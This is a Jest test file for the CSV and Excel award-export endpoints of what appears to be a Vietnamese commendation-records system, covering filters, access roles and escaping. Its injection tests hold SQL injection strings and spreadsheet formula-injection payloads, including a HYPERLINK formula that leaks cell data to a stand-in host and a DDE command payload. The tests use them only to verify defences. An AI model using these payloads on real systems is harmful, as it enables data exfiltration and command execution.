import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { defuseFormula, defuseFormulaSql } from '../../src/common/csv/formula.js';
import { AWARD_EXPORT_COLUMNS, sheetEscapingNeededSql, sheetTextSql } from '../../src/exports/award-export.sql.js';
import {
  makeApprovedNomination,
  makeDecision,
  makeEligible,
  makeIndividual,
  makeOrganization,
  makeSubmittedNomination,
  makeTree,
  revocationFields,
} from '../support/factories.js';
import { binary } from '../support/binary.js';
import { byDepartment } from '../support/world.js';
import { BOOTSTRAP_TOKEN, bearer, createTestApp, type TestApp } from '../support/test-app.js';

const PROBLEM = /application\/problem\+json/;
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const CSV_COLUMNS = [
  'awardId',
  'year',
  'awardCode',
  'awardName',
  'basis',
  'recipientKind',
  'recipientName',
  'organizationId',
  'organizationName',
  'organizationPath',
  'decisionId',
  'decisionNumber',
  'issuedOn',
  'issuerName',
  'authority',
  'signerName',
  'signerTitle',
  'signingMode',
  'regime',
  'bonusAmount',
  'certificateNumber',
  'verificationCode',
  'revoked',
  'revokedAt',
  'revokedReason',
  'revocationNumber',
  'revocationIssuedOn',
  'revocationGround',
  'needsReview',
];

interface AwardItem {
  id: string;
  year: number;
  awardCode: string;
  awardName: string;
  basis: string;
  recipientKind: string;
  recipientName: string;
  organizationId: string;
  organizationName: string;
  decisionId: string;
  decisionNumber: string;
  issuedOn: string;
  regime: string;
  certificateNumber: string | null;
  verificationCode: string;
  bonusAmount: number;
  revoked: boolean;
  revokedAt: string | null;
  revokedReason: string | null;
  revocation: { number: string; issuedOn: string; ground: string } | null;
  needsReview: boolean;
}

describe('exports', () => {
  let t: TestApp;
  let tree: Awaited<ReturnType<typeof makeTree>>;
  let office: { id: string };
  let auditor: string;
  let huong: { id: string };
  let revokedAwardId: string;

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => {
    await t.close();
  });

  /**
   * The demo story (README), names invented: the Sở's Giấy khen decision for 2023 (individuals of the Văn
   * phòng Sở and the Trung tâm, and a collective), one of them revoked afterwards; a Bằng khen of the provincial
   * chairman signed KT. by the Vice Chairman; a Giấy khen of 2022 of the other department.
   */
  beforeEach(async () => {
    await t.reset();
    tree = await makeTree(t);
    office = await makeOrganization(t, { kind: 'UNIT', name: 'Văn phòng Sở', parentId: tree.department.id });
    auditor = await t.token('AUDITOR');
    huong = await makeIndividual(t, office.id, { fullName: 'Nguyễn Thị Hương' });
    const others = await Promise.all([
      makeIndividual(t, tree.unit.id, { fullName: 'Lò Văn Pánh' }),
      makeIndividual(t, office.id, { fullName: "Đặng Thị O'Hara" }),
    ]);

    // One nomination goes through the workflow endpoints (draft → submit → approve); the rest are made APPROVED.
    const viaApi = await makeSubmittedNomination(t, {
      year: 2023,
      awardCode: 'GIAY_KHEN',
      individualId: huong.id,
      proposingOrganizationId: tree.department.id,
      expectedDecisionOn: '2024-01-23',
    });
    const approved = await t.http
      .post(`/api/v1/nominations/${viaApi.id}/approve`)
      .set(bearer(BOOTSTRAP_TOKEN))
      .send({});
    if (approved.status !== 200) throw new Error(`approve: ${approved.status} ${JSON.stringify(approved.body)}`);
    const sameDecision = await Promise.all([
      ...others.map((person) => makeApprovedNomination(t, byDepartment(tree, 2023, 'GIAY_KHEN', person.id))),
      makeApprovedNomination(t, byDepartment(tree, 2023, 'GIAY_KHEN', { organizationId: tree.unit.id })),
    ]);
    const giayKhen = await makeDecision(t, {
      issuerOrganizationId: tree.department.id,
      nominationIds: [viaApi.id, ...sameDecision.map((n) => n.id)],
      number: 5,
    });
    revokedAwardId = giayKhen.awards.find((award) => award.recipientName === 'Lò Văn Pánh')!.id;
    await t.http
      .post(`/api/v1/decisions/${giayKhen.id}/awards/${revokedAwardId}/revoke`)
      .set(bearer(BOOTSTRAP_TOKEN))
      .send(await revocationFields(t, giayKhen.id, 'Khai man thành tích, "hồ sơ" giả; cần truy thu'))
      .expect(201);

    const provincial = await makeIndividual(t, tree.department.id, { fullName: 'Trần Văn Bình' });
    // He qualifies (Law 2022 Art 74.1.d): the decision re-judges the line.
    await makeEligible(t, provincial.id, 'BANG_KHEN_TINH', 2023);
    const bangKhen = await makeApprovedNomination(t, byDepartment(tree, 2023, 'BANG_KHEN_TINH', provincial.id));
    await makeDecision(t, {
      issuerOrganizationId: tree.province.id,
      authority: 'PROVINCE_CHAIR',
      issuedOn: '2024-02-05',
      signerName: 'Vừ A Bằng',
      signerTitle: 'Phó Chủ tịch',
      signingMode: 'ON_BEHALF',
      nominationIds: [bangKhen.id],
    });

    const finance = await makeIndividual(t, tree.otherDepartment.id, { fullName: 'Phạm Thu Trang' });
    const older = await makeApprovedNomination(t, {
      awardCode: 'GIAY_KHEN',
      year: 2022,
      individualId: finance.id,
      proposingOrganizationId: tree.otherDepartment.id,
      regime: 'TDKT_2003_ND91',
    });
    await makeDecision(t, {
      issuerOrganizationId: tree.otherDepartment.id,
      issuedOn: '2023-01-10',
      signerName: 'Lê Văn Tài',
      nominationIds: [older.id],
    });
  });

  /**
   * Every item of `GET /awards` for the query as the auditor sees it (revocation reasons included), page by page
   * (small pages, so the cursor is exercised).
   */
  async function listAll(query: Record<string, string>): Promise<AwardItem[]> {
    const items: AwardItem[] = [];
    let cursor: string | null = null;
    do {
      const page = await t.http
        .get('/api/v1/awards')
        .set(bearer(auditor))
        .query({ ...query, limit: '2', ...(cursor ? { cursor } : {}) })
        .expect(200);
      items.push(...(page.body.items as AwardItem[]));
      cursor = page.body.nextCursor as string | null;
    } while (cursor);
    return items;
  }

  const download = (format: 'csv' | 'xlsx', query: Record<string, string> = {}, token: string | null = auditor) => {
    const request = t.http.get(`/api/v1/exports/awards.${format}`).query(query).buffer(true).parse(binary);
    return token ? request.set(bearer(token)) : request;
  };

  const parseCsv = (body: Buffer): Record<string, string>[] =>
    parse(body, { bom: true, columns: true, skip_empty_lines: true });

  /** The only sheet of an exported workbook. */
  async function workbookOf(body: Buffer): Promise<ExcelJS.Worksheet> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ArrayBuffer);
    expect(workbook.worksheets).toHaveLength(1);
    return workbook.worksheets[0];
  }

  /** The CSV row of an award, as the API item predicts it. */
  const expectedCsv = (item: AwardItem) => ({
    awardId: item.id,
    year: String(item.year),
    awardCode: item.awardCode,
    awardName: item.awardName,
    basis: item.basis,
    recipientKind: item.recipientKind,
    recipientName: item.recipientName,
    organizationId: item.organizationId,
    organizationName: item.organizationName,
    decisionId: item.decisionId,
    decisionNumber: item.decisionNumber,
    issuedOn: item.issuedOn,
    regime: item.regime,
    bonusAmount: String(item.bonusAmount),
    certificateNumber: item.certificateNumber ?? '',
    verificationCode: item.verificationCode,
    revoked: item.revoked ? 'yes' : 'no',
    revokedAt: item.revokedAt ?? '',
    revokedReason: item.revokedReason ?? '',
    revocationNumber: item.revocation?.number ?? '',
    revocationIssuedOn: item.revocation?.issuedOn ?? '',
    revocationGround: item.revocation?.ground ?? '',
    needsReview: item.needsReview ? 'yes' : 'no',
  });

  describe('GET /exports/awards.csv', () => {
    it('streams every award, revoked ones included, row for row as GET /awards?includeRevoked=true, with a BOM', async () => {
      const response = await download('csv').expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="awards_all_\d{8}T\d{6}Z\.csv"$/);
      expect(response.headers['cache-control']).toBe('no-store');
      const body = response.body as Buffer;
      expect(body.subarray(0, 3).equals(BOM)).toBe(true);
      expect(body.subarray(3).toString('utf8').split('\r\n')[0].split('\n')[0]).toBe(CSV_COLUMNS.join(','));

      const rows = parseCsv(body);
      const items = await listAll({ includeRevoked: 'true' });
      expect(items).toHaveLength(6);
      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
      rows.forEach((row, index) => expect(row).toMatchObject(expectedCsv(items[index])));
    });

    it('carries the unit path, the issuer, the signer and the revocation', async () => {
      const rows = parseCsv((await download('csv').expect(200)).body as Buffer);
      const byName = new Map(rows.map((row) => [row.recipientName, row]));
      expect(byName.get('Nguyễn Thị Hương')).toMatchObject({
        organizationName: 'Văn phòng Sở',
        organizationPath: 'UBND tỉnh Điện Biên / Sở Thông tin và Truyền thông / Văn phòng Sở',
        awardName: 'Giấy khen',
        decisionNumber: '05/QĐ-STTTT',
        issuedOn: '2024-01-23',
        issuerName: 'Sở Thông tin và Truyền thông',
        authority: 'DEPARTMENT_HEAD',
        signerName: 'Vũ Anh Dũng',
        signerTitle: 'Giám đốc',
        signingMode: 'DIRECT',
        revoked: 'no',
        revokedAt: '',
      });
      expect(byName.get('Trần Văn Bình')).toMatchObject({
        organizationPath: 'UBND tỉnh Điện Biên / Sở Thông tin và Truyền thông',
        issuerName: 'UBND tỉnh Điện Biên',
        authority: 'PROVINCE_CHAIR',
        signerName: 'Vừ A Bằng',
        signerTitle: 'Phó Chủ tịch',
        signingMode: 'ON_BEHALF',
        decisionNumber: '01/QĐ-UBND',
      });
      const revoked = byName.get('Lò Văn Pánh')!;
      expect(revoked).toMatchObject({
        revoked: 'yes',
        revokedReason: 'Khai man thành tích, "hồ sơ" giả; cần truy thu',
      });
      expect(revoked.revokedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(byName.get("Đặng Thị O'Hara")?.organizationName).toBe('Văn phòng Sở');
      expect(byName.get('Trung tâm Công nghệ thông tin và Truyền thông')?.recipientKind).toBe('COLLECTIVE');
    });

    it.each([
      [{ year: '2023', awardCode: 'GIAY_KHEN' }, /^awards_2023_GIAY_KHEN_\d{8}T\d{6}Z\.csv$/],
      [
        { fromYear: '2022', toYear: '2023', recipientKind: 'INDIVIDUAL', basis: 'REGULAR' },
        /^awards_2022-2023_INDIVIDUAL_REGULAR_\d{8}T\d{6}Z\.csv$/,
      ],
      [{ fromYear: '2023' }, /^awards_from2023_\d{8}T\d{6}Z\.csv$/],
      [{ q: 'nguyen thi huong' }, /^awards_q-nguyen-thi-huong_\d{8}T\d{6}Z\.csv$/],
      [{ includeRevoked: 'false' }, /^awards_not-revoked_\d{8}T\d{6}Z\.csv$/],
    ])('applies the filters of GET /awards exactly: %j', async (query, fileName) => {
      const response = await download('csv', query).expect(200);
      expect(/filename="([^"]+)"/.exec(response.headers['content-disposition'])?.[1]).toMatch(fileName);
      const rows = parseCsv(response.body as Buffer);
      const items = await listAll({ includeRevoked: 'true', ...query });
      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
      expect(rows.length).toBeGreaterThan(0);
    });

    it('takes a whole subtree by organizationId and names the file after its symbol', async () => {
      const response = await download('csv', { organizationId: tree.department.id, year: '2023' }).expect(200);
      expect(response.headers['content-disposition']).toMatch(/filename="awards_2023_STTTT-subtree_\d{8}T\d{6}Z\.csv"/);
      const rows = parseCsv(response.body as Buffer);
      const items = await listAll({ includeRevoked: 'true', organizationId: tree.department.id, year: '2023' });
      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
      expect(rows.map((row) => row.recipientName).sort()).toEqual(
        [
          "Đặng Thị O'Hara",
          'Lò Văn Pánh',
          'Nguyễn Thị Hương',
          'Trung tâm Công nghệ thông tin và Truyền thông',
          'Trần Văn Bình',
        ].sort(),
      );
    });

    it('leaves revoked awards out with includeRevoked=false, like GET /awards by default', async () => {
      const rows = parseCsv((await download('csv', { includeRevoked: 'false' }).expect(200)).body as Buffer);
      const items = await listAll({});
      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
      expect(rows.map((row) => row.awardId)).not.toContain(revokedAwardId);
    });

    it('binds hostile search text as a literal: quotes, backslashes and LIKE wildcards match themselves', async () => {
      const quote = parseCsv((await download('csv', { q: "o'hara" }).expect(200)).body as Buffer);
      expect(quote.map((row) => row.recipientName)).toEqual(["Đặng Thị O'Hara"]);
      for (const q of ["'; DROP TABLE awards; --", '\\', "\\'", '%', '_', '$1', "') TO STDOUT; --"]) {
        const rows = parseCsv((await download('csv', { q }).expect(200)).body as Buffer);
        expect(rows.map((row) => row.awardId)).toEqual(
          (await listAll({ includeRevoked: 'true', q })).map((item) => item.id),
        );
      }
      expect(await listAll({ includeRevoked: 'true' })).toHaveLength(6);
    });

    it('sends the header line alone when nothing matches', async () => {
      const response = await download('csv', { year: '1999' }).expect(200);
      const body = response.body as Buffer;
      expect(body.subarray(0, 3).equals(BOM)).toBe(true);
      expect(body.subarray(3).toString('utf8').trim()).toBe(CSV_COLUMNS.join(','));
    });

    it('is open to AUDITOR and ADMIN only: 401 without a token, 403 for HR_OFFICER and APPROVER', async () => {
      const anonymous = await download('csv', {}, null).expect(401);
      expect(anonymous.headers['content-type']).toMatch(PROBLEM);
      for (const role of ['HR_OFFICER', 'APPROVER'] as const) {
        const response = await download('csv', {}, await t.token(role, tree.department.id)).expect(403);
        expect(response.headers['content-type']).toMatch(PROBLEM);
      }
      await download('csv', {}, BOOTSTRAP_TOKEN).expect(200);
    });

    it.each([
      [{ year: 'abc' }, 'year'],
      [{ year: '1800' }, 'year'],
      [{ fromYear: '2024', toYear: '2023' }, 'fromYear'],
      [{ awardCode: 'HUAN_CHUONG' }, 'awardCode'],
      [{ organizationId: 'not-a-uuid' }, 'organizationId'],
      [{ recipientKind: 'FAMILY' }, 'recipientKind'],
      [{ basis: 'ANNUAL' }, 'basis'],
      [{ includeRevoked: 'maybe' }, 'includeRevoked'],
      [{ q: 'x'.repeat(201) }, 'q'],
      [{ limit: '10' }, 'limit'],
      [{ cursor: 'abc' }, 'cursor'],
    ])('refuses bad filters with a 400 problem before streaming: %j', async (query, field) => {
      const response = await download('csv', query).expect(400);
      expect(response.headers['content-type']).toMatch(PROBLEM);
      const problem = JSON.parse((response.body as Buffer).toString('utf8'));
      expect(JSON.stringify(problem.errors ?? problem.detail)).toContain(field);
    });

    it('answers 404 for an organization that does not exist', async () => {
      const response = await download('csv', { organizationId: UNKNOWN_ID }).expect(404);
      expect(response.headers['content-type']).toMatch(PROBLEM);
    });

    it("defuses text a spreadsheet would run as a formula with a leading ' and leaves other text and numbers alone", async () => {
      const hostile = {
        recipientName: '=HYPERLINK("http://x.invalid/?leak="&A2,"y")',
        organizationName: '-2+3',
        certificateNumber: '\t=1+1',
        revokedReason: "+cmd|' /C calc'!A0",
        signerName: '=1+2',
        signerTitle: '@SUM(9)',
        decisionNumber: '\r=1',
        provinceName: '=UBND tỉnh Điện Biên',
      };
      const [award]: { id: string; decision_id: string }[] = await t.db.query(
        `SELECT id, decision_id FROM awards WHERE id = $1`,
        [revokedAwardId],
      );
      await t.db.query(
        `UPDATE awards SET recipient_name = $2, organization_name = $3, certificate_number = $4, revoked_reason = $5
          WHERE id = $1`,
        [award.id, hostile.recipientName, hostile.organizationName, hostile.certificateNumber, hostile.revokedReason],
      );
      await t.db.query(`UPDATE decisions SET signer_name = $2, signer_title = $3, number_text = $4 WHERE id = $1`, [
        award.decision_id,
        hostile.signerName,
        hostile.signerTitle,
        hostile.decisionNumber,
      ]);
      await t.db.query(`UPDATE organizations SET name = $2 WHERE id = $1`, [tree.province.id, hostile.provinceName]);
      // The issuer is printed under the name in force on the decision date: make it the hostile one all along.
      await t.db.query(`UPDATE organization_names SET name = $2 WHERE organization_id = $1`, [
        tree.province.id,
        hostile.provinceName,
      ]);
      // Harmless text: a negative number written as text, and Vietnamese with signs inside it.
      const harmless = { certificateNumber: '-15', recipientName: 'Trần Văn Bình - Phó phòng = +1 @ nhà' };
      await t.db.query(
        `UPDATE awards SET certificate_number = $1, recipient_name = $2 WHERE recipient_name = 'Trần Văn Bình'`,
        [harmless.certificateNumber, harmless.recipientName],
      );

      const rows = parseCsv((await download('csv').expect(200)).body as Buffer);
      const items = await listAll({ includeRevoked: 'true' });
      expect(rows.map((row) => row.awardId)).toEqual(items.map((item) => item.id));
      const row = rows.find((candidate) => candidate.awardId === award.id)!;
      expect(row).toMatchObject({
        recipientName: `'${hostile.recipientName}`,
        organizationName: `'${hostile.organizationName}`,
        certificateNumber: `'${hostile.certificateNumber}`,
        revokedReason: `'${hostile.revokedReason}`,
        signerName: `'${hostile.signerName}`,
        signerTitle: `'${hostile.signerTitle}`,
        decisionNumber: `'${hostile.decisionNumber}`,
        revoked: 'yes',
      });
      // Every award of the decision carries the signer; every unit path starts with the province's name.
      for (const other of rows.filter((candidate) => candidate.decisionId === award.decision_id)) {
        expect(other).toMatchObject({
          signerName: `'${hostile.signerName}`,
          decisionNumber: `'${hostile.decisionNumber}`,
        });
      }
      const huongRow = rows.find((candidate) => candidate.recipientName === 'Nguyễn Thị Hương')!;
      expect(huongRow.organizationPath).toBe(`'${hostile.provinceName} / Sở Thông tin và Truyền thông / Văn phòng Sở`);
      rows.forEach((candidate) => expect(candidate.organizationPath).toMatch(/^'=UBND tỉnh Điện Biên( \/ |$)/));
      expect(rows.find((candidate) => candidate.decisionNumber === '01/QĐ-UBND')?.issuerName).toBe(
        `'${hostile.provinceName}`,
      );
      // Harmless text, numbers and dates come out as they are, as GET /awards has them.
      const binh = rows.find((candidate) => candidate.recipientName === harmless.recipientName)!;
      expect(binh).toMatchObject({ certificateNumber: '-15', signerName: 'Vừ A Bằng', signerTitle: 'Phó Chủ tịch' });
      rows
        .filter((candidate) => candidate.decisionId !== award.decision_id)
        .forEach((candidate) =>
          expect(candidate).toMatchObject(expectedCsv(items.find((item) => item.id === candidate.awardId)!)),
        );
      rows.forEach((candidate) => {
        expect(candidate.year).toMatch(/^\d{4}$/);
        expect(candidate.bonusAmount).toMatch(/^\d+$/);
      });

      // The workbook needs no such thing: its cells are inline strings, never formulas, and keep the text as it is.
      const sheet = await workbookOf((await download('xlsx').expect(200)).body as Buffer);
      const sheetRow = sheet.getRow(items.findIndex((item) => item.id === award.id) + 2);
      expect(sheetRow.getCell(CSV_COLUMNS.indexOf('signerName') + 1).value).toBe(hostile.signerName);
    });

    it('defuses formulas in SQL exactly as the audit CSV does in JavaScript, for any text', async () => {
      const leading = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', "'", 'a', 'Đ', '1', '-1', '-1.5', '\n');
      const text = fc
        .tuple(leading, fc.oneof(fc.string({ maxLength: 6 }), fc.constantFrom('', '5', '0.25', '.5', '5x', '+1')))
        .map(([first, rest]) => first + rest);
      await fc.assert(
        fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 8 }), async (values) => {
          const [row]: Record<string, string>[] = await t.db.query(
            `SELECT ${values.map((_, index) => `${defuseFormulaSql(`$${index + 1}::text`)} AS "${index}"`).join(', ')}`,
            values,
          );
          values.forEach((value, index) => expect(row[String(index)]).toBe(defuseFormula(value)));
        }),
        { numRuns: 200 },
      );
    });
  });

  describe('GET /exports/awards.xlsx', () => {
    it('streams the same rows as GET /awards?includeRevoked=true, typed, under a frozen header', async () => {
      const response = await download('xlsx').expect(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="awards_all_\d{8}T\d{6}Z\.xlsx"$/);
      const sheet = await workbookOf(response.body as Buffer);
      expect(sheet.name).toBe('Khen thưởng');
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const header = sheet.getRow(1).values as unknown[];
      expect(header.slice(1, 5)).toEqual([
        'Mã bản ghi (ID)',
        'Năm khen thưởng',
        'Mã danh hiệu / hình thức',
        'Danh hiệu / hình thức khen thưởng',
      ]);
      expect(header).toHaveLength(CSV_COLUMNS.length + 1);
      expect(header.slice(1)).toEqual(AWARD_EXPORT_COLUMNS.map((c) => c.label));
      expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(sheet.getRow(1).getCell(1).alignment).toMatchObject({ wrapText: true, vertical: 'middle' });
      expect(sheet.getColumn(7).width).toBe(32);
      AWARD_EXPORT_COLUMNS.forEach((c, index) => expect(sheet.getColumn(index + 1).width).toBe(c.width));

      const items = await listAll({ includeRevoked: 'true' });
      expect(sheet.actualRowCount).toBe(items.length + 1);
      expect(sheet.autoFilter).toBe(`A1:AC${items.length + 1}`);
      const column = (key: string) => CSV_COLUMNS.indexOf(key) + 1;
      items.forEach((item, index) => {
        const row = sheet.getRow(index + 2);
        expect(row.getCell(column('awardId')).value).toBe(item.id);
        expect(row.getCell(column('year')).value).toBe(item.year);
        expect(row.getCell(column('year')).numFmt).toBe('0');
        expect(row.getCell(column('recipientName')).value).toBe(item.recipientName);
        expect(row.getCell(column('decisionNumber')).value).toBe(item.decisionNumber);
        // Cells after one that may be left out (NULL) sit in their own column: most cells carry no reference.
        expect(row.getCell(column('awardCode')).value).toBe(item.awardCode);
        expect(row.getCell(column('organizationId')).value).toBe(item.organizationId);
        expect(row.getCell(column('decisionId')).value).toBe(item.decisionId);
        expect(row.getCell(column('authority')).value).toMatch(/^[A-Z_]+$/);
        expect(row.getCell(column('regime')).value).toBe(item.regime);
        expect(row.getCell(column('certificateNumber')).value).toBe(item.certificateNumber ?? null);
        expect(row.getCell(column('verificationCode')).value).toBe(item.verificationCode);
        expect(row.getCell(column('bonusAmount')).value).toBe(item.bonusAmount);
        expect(row.getCell(column('bonusAmount')).numFmt).toBe('#,##0');
        const issuedOn = row.getCell(column('issuedOn')).value;
        expect(issuedOn).toBeInstanceOf(Date);
        expect((issuedOn as Date).toISOString().slice(0, 10)).toBe(item.issuedOn);
        expect(row.getCell(column('issuedOn')).numFmt).toBe('dd/mm/yyyy');
        expect(row.getCell(column('revoked')).value).toBe(item.revoked ? 'yes' : 'no');
        const revokedAt = row.getCell(column('revokedAt')).value;
        if (item.revokedAt) {
          expect(revokedAt).toBeInstanceOf(Date);
          expect((revokedAt as Date).getTime()).toBe(new Date(item.revokedAt).getTime());
          expect(row.getCell(column('revokedAt')).numFmt).toBe('dd/mm/yyyy hh:mm:ss');
          expect(row.getCell(column('revokedReason')).value).toBe(item.revokedReason);
        } else {
          expect(revokedAt).toBeNull();
        }
        // The revocation decision (R-REVOKE-1): its number and ground as text, its date a date.
        expect(row.getCell(column('revocationNumber')).value ?? null).toBe(item.revocation?.number ?? null);
        expect(row.getCell(column('revocationGround')).value ?? null).toBe(item.revocation?.ground ?? null);
        const revokedOn = row.getCell(column('revocationIssuedOn')).value;
        if (item.revocation) expect((revokedOn as Date).toISOString().slice(0, 10)).toBe(item.revocation.issuedOn);
        else expect(revokedOn ?? null).toBeNull();
        expect(row.getCell(column('needsReview')).value).toBe(item.needsReview ? 'yes' : 'no');
      });
      const huongRow = items.findIndex((item) => item.recipientName === 'Nguyễn Thị Hương') + 2;
      expect(sheet.getRow(huongRow).getCell(column('organizationPath')).value).toBe(
        'UBND tỉnh Điện Biên / Sở Thông tin và Truyền thông / Văn phòng Sở',
      );
    });

    it('applies the same filters and file name as the CSV', async () => {
      const query = { organizationId: tree.department.id, includeRevoked: 'false' };
      const response = await download('xlsx', query).expect(200);
      expect(response.headers['content-disposition']).toMatch(
        /filename="awards_STTTT-subtree_not-revoked_\d{8}T\d{6}Z\.xlsx"/,
      );
      const sheet = await workbookOf(response.body as Buffer);
      const items = await listAll({ organizationId: tree.department.id });
      const ids: unknown[] = [];
      sheet.eachRow((row, number) => {
        if (number > 1) ids.push(row.getCell(1).value);
      });
      expect(ids).toEqual(items.map((item) => item.id));
    });

    it('writes a header-only workbook when nothing matches', async () => {
      const sheet = await workbookOf((await download('xlsx', { year: '1999' }).expect(200)).body as Buffer);
      expect(sheet.actualRowCount).toBe(1);
      expect(sheet.autoFilter).toBe('A1:AC1');
    });

    /** Does XML 1.0 forbid the character outright (control characters but tab, LF and CR; U+FFFE, U+FFFF)? */
    const forbiddenInXml = (char: string) => {
      const code = char.codePointAt(0) ?? 0;
      return (code < 0x20 && !'\t\n\r'.includes(char)) || code === 0xfffe || code === 0xffff;
    };
    /** The text as the export writes it: what XML forbids dropped. */
    const withoutForbidden = (text: string) => [...text].filter((char) => !forbiddenInXml(char)).join('');

    it('carries hostile text as it is: markup, quotes, backslashes, tabs, line breaks, edge spaces, Vietnamese', async () => {
      const hostile = {
        recipientName: `<b>Nguyễn & "Con" 'Cháu'</b> ]]> &amp; &#92;`,
        // Backslashes, and what COPY's text format would write as escapes (\n, \t, \\) spelt out in the text.
        organizationName: String.raw`C:\Thư mục\n tệp \t \\ \ cuối`,
        certificateNumber: 'tab\there\r\nCRLF\nLF\rCR\tend',
        revokedReason: '  khoảng trắng hai đầu \u00a0 ',
        signerName: 'điều khiển\u0001\u0008\u000b\u000c\u001f\ufffe\uffff hết',
        signerTitle: '\\',
        officeName: 'Văn phòng Sở <&> "Đảng ủy" \t\\ cuối ',
      };
      const [award]: { id: string; decision_id: string }[] = await t.db.query(
        `SELECT a.id, a.decision_id FROM awards a WHERE a.id = $1`,
        [revokedAwardId],
      );
      await t.db.query(
        `UPDATE awards SET recipient_name = $2, organization_name = $3, certificate_number = $4, revoked_reason = $5
          WHERE id = $1`,
        [award.id, hostile.recipientName, hostile.organizationName, hostile.certificateNumber, hostile.revokedReason],
      );
      await t.db.query(`UPDATE decisions SET signer_name = $2, signer_title = $3 WHERE id = $1`, [
        award.decision_id,
        hostile.signerName,
        hostile.signerTitle,
      ]);
      await t.db.query(`UPDATE organizations SET name = $2 WHERE id = $1`, [office.id, hostile.officeName]);

      const response = await download('xlsx').expect(200);
      const sheet = await workbookOf(response.body as Buffer);
      const items = await listAll({ includeRevoked: 'true' });
      expect(sheet.actualRowCount).toBe(items.length + 1);
      const column = (key: string) => CSV_COLUMNS.indexOf(key) + 1;
      const rowOf = (id: string) => sheet.getRow(items.findIndex((item) => item.id === id) + 2);
      const row = rowOf(award.id);
      const text = (key: string) => row.getCell(column(key)).value;
      expect(text('awardId')).toBe(award.id);
      expect(text('recipientName')).toBe(hostile.recipientName);
      expect(text('organizationName')).toBe(hostile.organizationName);
      expect(text('certificateNumber')).toBe(hostile.certificateNumber);
      expect(text('revokedReason')).toBe(hostile.revokedReason);
      expect(text('signerName')).toBe(withoutForbidden(hostile.signerName));
      expect(text('signerName')).toBe('điều khiển hết');
      expect(text('signerTitle')).toBe('\\');
      expect(text('revokedAt')).toBeInstanceOf(Date);
      const huongRow = sheet.getRow(items.findIndex((item) => item.recipientName === 'Nguyễn Thị Hương') + 2);
      expect(huongRow.getCell(column('organizationPath')).value).toBe(
        `UBND tỉnh Điện Biên / Sở Thông tin và Truyền thông / ${hostile.officeName}`,
      );
      // Rows without such text are unchanged, and every row is where GET /awards has it.
      expect(sheet.getColumn(1).values.slice(2)).toEqual(items.map((item) => item.id));
      expect(huongRow.getCell(column('recipientName')).value).toBe('Nguyễn Thị Hương');
    });

    it('escapes any text for a cell in SQL: it reads back as itself, less what XML forbids, and holds nothing COPY would escape', async () => {
      const hostileCharacter = fc.constantFrom(...'&<>"\'\\\t\n\r \u0001\u0008\u000b\u001f\ufffe\uffff\ue000ưĐ a]');
      const text = fc.oneof(
        fc.string({ unit: 'binary', maxLength: 24 }),
        fc.string({ unit: hostileCharacter, maxLength: 12 }),
      );
      const decode = (xml: string) =>
        xml.replace(
          /&(amp|lt|gt|#92|#9|#10|#13);/g,
          (_, name: string) =>
            ({ amp: '&', lt: '<', gt: '>', '#92': '\\', '#9': '\t', '#10': '\n', '#13': '\r' })[name] ?? '',
        );
      await fc.assert(
        fc.asyncProperty(
          fc.array(
            text.map((value) => value.replace(/\0/g, '')),
            { minLength: 1, maxLength: 4 },
          ),
          async (values) => {
            const params = values.map((_, index) => `$${index + 1}::text`);
            const [row]: Record<string, string | boolean>[] = await t.db.query(
              `SELECT ${params.map((param, index) => `${sheetTextSql(param)} AS "${index}"`).join(', ')},
                    ${sheetEscapingNeededSql(params)} AS escaped`,
              values,
            );
            values.forEach((value, index) => {
              const xml = row[String(index)] as string;
              // Nothing COPY's text format would escape (backslash, control characters), no markup, nothing forbidden.
              expect([...xml].filter((char) => char < ' ' || '\\<>'.includes(char) || forbiddenInXml(char))).toEqual(
                [],
              );
              expect(xml.replace(/&(amp|lt|gt|#92|#9|#10|#13);/g, '')).not.toContain('&');
              expect(decode(xml)).toBe(withoutForbidden(value));
              // A row that is not escaped is written as it is: that must be safe, and keep its spaces.
              if (!row.escaped) {
                expect(xml).toBe(value);
                expect(value).not.toMatch(/^ | $/);
              }
            });
          },
        ),
        { numRuns: 300 },
      );
    });

    it('401 without a token, 403 for HR_OFFICER, 400 for bad filters, 404 for an unknown organization', async () => {
      expect((await download('xlsx', {}, null).expect(401)).headers['content-type']).toMatch(PROBLEM);
      await download('xlsx', {}, await t.token('HR_OFFICER', tree.department.id)).expect(403);
      expect((await download('xlsx', { toYear: '20x3' }).expect(400)).headers['content-type']).toMatch(PROBLEM);
      await download('xlsx', { organizationId: UNKNOWN_ID }).expect(404);
    });
  });
});

describe('exports cut short by the client', () => {
  let t: TestApp;
  let port: number;
  let auditor: string;
  const ROWS = 40_000;

  beforeAll(async () => {
    t = await createTestApp();
    await t.app.listen(0, '127.0.0.1');
    port = (t.app.getHttpServer().address() as AddressInfo).port;
    const tree = await makeTree(t);
    auditor = await t.token('AUDITOR');
    // ≈ 100 MB of CSV: far more than socket buffers hold, so PostgreSQL is still sending when the client goes away.
    const [decision]: { id: string }[] = await t.db.query(
      `INSERT INTO decisions (issuer_organization_id, authority, year, number, number_text, issued_on, signer_name, signer_title, signing_mode, regime)
